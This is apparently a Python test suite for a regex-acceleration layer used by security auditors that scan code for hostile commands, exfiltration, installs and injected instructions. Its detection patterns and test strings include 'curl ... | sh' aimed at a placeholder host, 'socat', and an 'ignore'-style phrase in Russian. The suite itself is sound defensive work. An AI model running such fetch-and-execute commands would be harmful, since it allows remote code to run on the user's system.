"""auditor_kit.starts: a long text searched only where a match can start finds exactly what
the pattern's own search finds, for every pattern of the built-in auditors."""

from __future__ import annotations

import importlib
import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lemon_core.auditor_kit.lazy import LONG_TEXT, LazyPattern, lazy_compile
from lemon_core.auditor_kit.starts import StartSearch, literal_starts

_MODULES = (
    "lemon_core.auditor_kit.decode", "lemon_core.auditor_kit.hosts",
    "lemon_core.auditor_kit.markdown", "lemon_core.auditor_kit.rules",
    "lemon_plugins.auditors.code.commands", "lemon_plugins.auditors.code.exfil",
    "lemon_plugins.auditors.code.installs", "lemon_plugins.auditors.code.scan",
    "lemon_plugins.auditors.instructions",
)
#: Characters that case-fold to ASCII letters (ſ, K, İ, ı) and other non-ASCII ones.
_ODD = "ſKİıé–’Ж\u200b😀"


def _patterns() -> list[tuple[str, LazyPattern]]:
    found = []
    for name in _MODULES:
        for attr, value in vars(importlib.import_module(name)).items():
            if isinstance(value, LazyPattern):
                found.append((f"{name.rsplit('.', 1)[-1]}.{attr}", value))
    return found


def _pieces(pattern: LazyPattern) -> list[str]:
    """Words of the pattern's source (what its matches are made of) and the starts."""
    words = re.findall(r"[A-Za-z0-9_./|$<>:;&'\"`~!@%{}\[\]()=+*-]{1,12}", pattern._source)
    words = [w.replace("\\", "") for w in words if w]
    words += re.findall(r"[^\x00-\x7f]{1,8}", pattern._source)  # non-ASCII words of the rule
    starts = literal_starts(pattern._source, pattern._flags) or ()
    return words + list(starts) + [" ", " ", "  ", "\t", "\n", "x", "/", "-", "="]


def _text(rng: random.Random, pieces: list[str], size: int, odd: bool) -> str:
    out: list[str] = []
    total = 0
    while total < size:
        piece = rng.choice(pieces)
        roll = rng.random()
        if roll < 0.3:
            piece = piece.upper()
        elif roll < 0.4:
            piece = "".join(c.upper() if rng.random() < 0.5 else c for c in piece)
        if odd and rng.random() < 0.05:
            piece = rng.choice(_ODD) + piece if rng.random() < 0.5 else piece.replace(
                "s", "ſ").replace("k", "K").replace("i", "ı")
        if rng.random() < 0.2:
            piece += " "
        out.append(piece)
        total += len(piece)
    return "".join(out)


def _shape(match: re.Match[str] | None) -> object:
    return None if match is None else (match.span(), match.groups())


@pytest.mark.parametrize(("name", "pattern"), _patterns(), ids=lambda v: v if isinstance(v, str) else "")
def test_start_search_equals_the_pattern_search(name: str, pattern: LazyPattern) -> None:
    starts = literal_starts(pattern._source, pattern._flags)
    if starts is None:
        pytest.skip("starts not known: searched as it is")
    compiled = pattern.compiled()
    fast = StartSearch(compiled, starts)
    rng = random.Random(name)
    pieces = _pieces(pattern)
    for round_ in range(40):
        text = _text(rng, pieces, rng.choice((40, 300, 3_000)), odd=round_ % 3 == 0)
        assert [_shape(m) for m in fast.finditer(text)] == \
            [_shape(m) for m in compiled.finditer(text)], text
        pos, endpos = rng.randrange(len(text)), rng.randrange(len(text) + 5)
        assert _shape(fast.search(text, pos, endpos)) == \
            _shape(compiled.search(text, pos, endpos)), (pos, endpos, text)


def test_a_match_through_a_non_ascii_branch_is_found() -> None:
    pattern = re.compile(r"\ba(?:é|b)c", re.IGNORECASE)
    fast = StartSearch(pattern, literal_starts(pattern.pattern, pattern.flags) or ())
    text = "x" * 300 + " aéc " + "y" * 300 + " AbC"
    assert [m.span() for m in fast.finditer(text)] == [m.span() for m in pattern.finditer(text)]
    only = re.compile(r"игнор\w*", re.IGNORECASE)
    fast = StartSearch(only, ())
    text = "z" * 300 + " Игнорируй " + "z" * 10
    assert [m.span() for m in fast.finditer(text)] == [m.span() for m in only.finditer(text)]


def test_lazy_patterns_use_the_start_search_for_long_texts_only() -> None:
    pattern = lazy_compile(r"\bcurl\b[^\n|]*\|\s*sh\b", re.IGNORECASE)
    line = "x" * LONG_TEXT + " CURL https://a.example | sh"
    assert pattern.search(line).span() == (LONG_TEXT + 1, len(line))
    assert pattern.search("curl x | sh").span() == (0, 11)
    assert pattern.__dict__["_start_search"].finder.pattern == "curl"
    # a non-ASCII character that case-folds to an ASCII letter is still found
    folded = lazy_compile(r"\bsocat\b", re.IGNORECASE)
    assert folded.search("y" * LONG_TEXT + " ſocat").start() == LONG_TEXT + 1


@pytest.mark.parametrize(("source", "starts"), [
    (r"\b(?:curl|wget)\s+x", ("curl", "wget")),
    (r"(?:sudo\s+)?python\d", ("pyth", "sudo")),
    (r"[\"']?ab", ('"ab', "'ab", "ab")),
    (r"a*b", None),  # may start with b or a: an optional repeat
    (r"\s*#", None),
    (r"x?", None),  # may be empty
    (r"[^a]b", None),
    (r"(?i)игнор", ()),  # every match opens with a non-ASCII character
    (r"(?i)ıx", ("ix",)),  # the dotless i matches an ASCII i when case is ignored
    (r"a(?:é|b)", ("ab",)),  # "aé" is tried where the é stands (a wildcard)
    (r"aé", ("a",)),  # cut before a non-ASCII character
    (r"(?:x|ö)y", ("x",)),  # an alternative the reader cannot complete: its head only
    (r"(?i)\bpip3?\s+install", ("pip",)),
    (r"(?x) a b", None),  # verbose: not read
    (r"(a)\1", None),  # a back-reference: not read
    (r"\x41b", None),  # a hex escape: not read
    (r"[a-c]x|[\w]y", None),  # a class escape in a set
    (r"x{2,3}y", ("x",)),
    (r"(?=ab)abc", ("abc",)),
    (r"a{,2}b", None),  # may start with b or a: an optional repeat (as a*b)
])  # fmt: skip
def test_literal_starts(source: str, starts: tuple[str, ...] | None) -> None:
    found = literal_starts(source)
    if starts is None or source in (r"a*b", r"a{,2}b"):
        assert found is None or source in (r"a*b", r"a{,2}b") and set(found) == {"a", "b"}
    else:
        assert found == starts


_ATOMS = ["a", "b", "ab", "é", "ſ", "K", r"\b", "^", "$", r"\s", r"\w", ".", "[ab]", "[^a]",
          "[a-c]", r"[\w-]", r"\.", r"\$", "x", "-", "ı"]  # fmt: skip


@st.composite
def _sources(draw: st.DrawFn, depth: int = 0) -> str:
    """A small pattern of the constructs the reader knows (and some it gives up on)."""
    parts = []
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.integers(0, 9 if depth < 2 else 5))
        if kind <= 5:
            part = draw(st.sampled_from(_ATOMS))
        elif kind <= 7:
            inner = draw(st.lists(_sources(depth + 1), min_size=1, max_size=3))
            part = draw(st.sampled_from(["(?:{})", "({})", "(?={})", "(?!{})"])).format(
                "|".join(inner))
        else:
            part = "(?:" + draw(_sources(depth + 1)) + ")"
        if draw(st.booleans()):
            part += draw(st.sampled_from(["?", "*", "+", "{2}", "{1,2}", "{,2}", "??", "*?"]))
        parts.append(part)
    return "".join(parts)


@settings(max_examples=300, deadline=None)
@given(_sources(), st.booleans(), st.lists(st.sampled_from(
    ["a", "b", "ab", "AB", "é", "ſ", "K", "k", " ", "x", "-", ".", "$", "ı", "I", "c"]),
    min_size=60, max_size=200))
def test_start_search_equals_the_plain_search_on_generated_patterns(
        source: str, ignore_case: bool, pieces: list[str]) -> None:
    """The reader's starts, on patterns it makes, find exactly what the engine finds."""
    flags = re.IGNORECASE if ignore_case else 0
    try:
        pattern = re.compile(source, flags)
    except re.error:
        return
    starts = literal_starts(source, flags)
    if starts is None:
        return
    text = "".join(pieces)
    fast = StartSearch(pattern, starts)
    assert [_shape(m) for m in fast.finditer(text)] == [_shape(m) for m in pattern.finditer(text)]
    assert _shape(fast.search(text, 3)) == _shape(pattern.search(text, 3))


def test_the_off_switch_searches_as_the_pattern(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LEMON_PLAIN", "search")
    pattern = lazy_compile(r"\bcurl\b[^\n|]*\|\s*sh\b", re.IGNORECASE)
    line = "x" * LONG_TEXT + " CURL https://a.example | sh"
    assert pattern.search(line).span() == (LONG_TEXT + 1, len(line))
    assert pattern.__dict__["_start_search"] is None
